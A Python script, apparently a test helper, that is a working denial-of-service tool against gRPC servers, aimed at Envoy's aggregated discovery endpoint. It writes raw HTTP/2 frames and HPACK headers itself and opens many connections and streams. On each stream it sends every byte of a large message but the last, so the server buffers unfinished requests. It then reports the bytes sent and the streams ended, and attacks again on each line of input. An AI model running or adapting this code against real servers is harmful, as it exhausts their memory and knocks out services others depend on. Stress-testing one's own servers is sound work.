"""A process that begins gRPC messages and never ends them: ADDRESS CONNECTIONS STREAMS SIZE [NODE].

Each stream sends all but the last byte of its message; with a node, after a complete first request. When that is
done, or the server ended the streams, it prints the bytes sent and the streams ended, and waits. A line of input
begins again with new connections; the end of the input ends the process.

It writes frames and requests itself: a library for HTTP/2 takes more CPU time than the server that it attacks. Run
it as ``SCRIPT``, not as a module: importing the package takes seconds on a busy machine, and a flood may be over.
"""

import selectors
import socket
import struct
import sys
from collections.abc import Iterator, Sequence
from typing import Final

SCRIPT: Final = __file__
DISCOVERY: Final = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"
_CLUSTER: Final = "type.googleapis.com/envoy.config.cluster.v3.Cluster"

_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _GOAWAY, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
_END_STREAM, _ACK, _END_HEADERS = 1, 1, 4
_INITIAL_WINDOW: Final = 4
_DEFAULT_WINDOW: Final = 65_535
_FRAME_BYTES: Final = 16_384
_PAYLOAD: Final = b"\x0a" * _FRAME_BYTES
_SETTLE_S: Final = 5.0


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _request(node: str) -> bytes:
    """A DeltaDiscoveryRequest: field 1 is the node, whose field 1 is its id; field 2 the type."""
    return _field(1, _field(1, node.encode())) + _field(2, _CLUSTER.encode())


def _field(number: int, value: bytes) -> bytes:
    return bytes([number << 3 | 2, len(value)]) + value


def _literal(name: str, value: str) -> bytes:
    """A header of HPACK without index or compression."""
    return b"\x00" + b"".join(bytes([len(one)]) + one.encode() for one in (name, value))


_REQUEST: Final = b"".join(
    _literal(name, value)
    for name, value in (
        *((":method", "POST"), (":scheme", "http"), (":path", DISCOVERY), (":authority", "x")),
        *(("te", "trailers"), ("content-type", "application/grpc")),
    )
)


class Connection:
    """One connection; ``left`` is the number of bytes to send, by stream."""

    def __init__(self, host: str, port: int, streams: int, size: int, first: bytes = b"") -> None:
        self.socket = socket.create_connection((host, port))
        self.socket.setblocking(False)
        self.left: dict[int, int] = {}
        self.sent = 0
        self.ended: set[int] = set()
        self._window = _DEFAULT_WINDOW
        self._initial_window = _DEFAULT_WINDOW
        self._windows: dict[int, int] = {}
        self._received = b""
        self._output = bytearray(_PREFACE + _frame(_SETTINGS, 0, 0))
        prefix = struct.pack(">BI", 0, size)
        if first:
            prefix = struct.pack(">BI", 0, len(first)) + first + prefix
        for number in range(1, 2 * streams, 2):
            self._output += _frame(_HEADERS, _END_HEADERS, number, _REQUEST)
            self._output += _frame(_DATA, 0, number, prefix)
            self._windows[number] = self._initial_window - len(prefix)
            self._window -= len(prefix)
            self.left[number] = size - 1
        self.flush()

    @property
    def blocked(self) -> bool:
        """Whether frames wait for the kernel."""
        return bool(self._output)

    def flush(self) -> None:
        """Send what flow control and the kernel allow."""
        while self._write() and self._window > 0:
            for number, left in list(self.left.items()):
                room = min(self._windows[number], self._window, left, _FRAME_BYTES)
                if room > 0:
                    self._output += _frame(_DATA, 0, number, _PAYLOAD[:room])
                    self.sent += room
                    self._window -= room
                    self._windows[number] -= room
                    self.left[number] = left - room
                    if left == room:
                        del self.left[number]
            if not self._output:
                return

    def _write(self) -> bool:
        """Write to the kernel; whether it took everything."""
        try:
            while self._output:
                del self._output[: self.socket.send(self._output)]
        except BlockingIOError:
            return False
        except OSError:
            self._output.clear()
            self.left.clear()
        return True

    def read(self) -> bool:
        """Process what arrived; whether the connection is still open."""
        try:
            data = self.socket.recv(65_536)
        except BlockingIOError:
            return True
        except OSError:
            data = b""
        if not data:
            self.left.clear()
            return False
        for kind, flags, stream, payload in self._frames(data):
            if kind == _RST_STREAM or (kind == _HEADERS and flags & _END_STREAM):
                self.ended.add(stream)
                self.left.pop(stream, None)
            elif kind == _WINDOW_UPDATE:
                (more,) = struct.unpack(">I", payload)
                if stream:
                    self._windows[stream] += more
                else:
                    self._window += more
            elif kind == _SETTINGS and not flags & _ACK:
                self._configure(payload)
            elif kind == _PING and not flags & _ACK:
                self._output += _frame(_PING, _ACK, 0, payload)
            elif kind == _GOAWAY:
                self.left.clear()
        self.flush()
        return True

    def _configure(self, settings: bytes) -> None:
        for name, value in struct.iter_unpack(">HI", settings):
            if name == _INITIAL_WINDOW:
                for stream in self._windows:
                    self._windows[stream] += value - self._initial_window
                self._initial_window = value
        self._output += _frame(_SETTINGS, _ACK, 0)

    def _frames(self, data: bytes) -> Iterator[tuple[int, int, int, bytes]]:
        self._received += data
        while len(self._received) >= 9:
            size = int.from_bytes(self._received[:3])
            if len(self._received) < 9 + size:
                return
            kind, flags, stream = struct.unpack(">BBI", self._received[3:9])
            payload, self._received = self._received[9 : 9 + size], self._received[9 + size :]
            yield kind, flags, stream, payload


def main(address: str, connections: int, streams: int, size: int, node: str = "") -> None:
    """Attack as often as the input has lines, and once before."""
    host, _, port = address.rpartition(":")
    first = _request(node) if node else b""
    again = True
    while again:
        made = [Connection(host, int(port), streams, size, first) for _ in range(connections)]
        again = attack(made)
        for one in made:
            one.socket.close()


def attack(made: Sequence[Connection]) -> bool:
    """Attack, report, and wait; returns whether to begin again."""
    with selectors.DefaultSelector() as selector:
        for one in made:
            selector.register(one.socket, selectors.EVENT_READ, one)
        selector.register(sys.stdin, selectors.EVENT_READ, None)
        reported = False
        while True:
            events = selector.select(_SETTLE_S)
            if not events and not reported:
                # Neither answers nor room for more: what the server takes, it has.
                reported = True
                ended = sum(len(one.ended) for one in made)
                sys.stdout.write(f"{sum(one.sent for one in made)} {ended}\n")
                sys.stdout.flush()
            for key, ready in events:
                one = key.data
                if one is None:
                    return bool(sys.stdin.readline())
                if ready & selectors.EVENT_WRITE:
                    one.flush()
                if ready & selectors.EVENT_READ and not one.read():
                    selector.unregister(key.fileobj)
                    continue
                wanted = selectors.EVENT_READ | (selectors.EVENT_WRITE if one.blocked else 0)
                if wanted != key.events:
                    selector.modify(key.fileobj, wanted, one)


if __name__ == "__main__":
    _address, _connections, _streams, _size, *_node = sys.argv[1:]
    main(_address, int(_connections), int(_streams), int(_size), *_node)
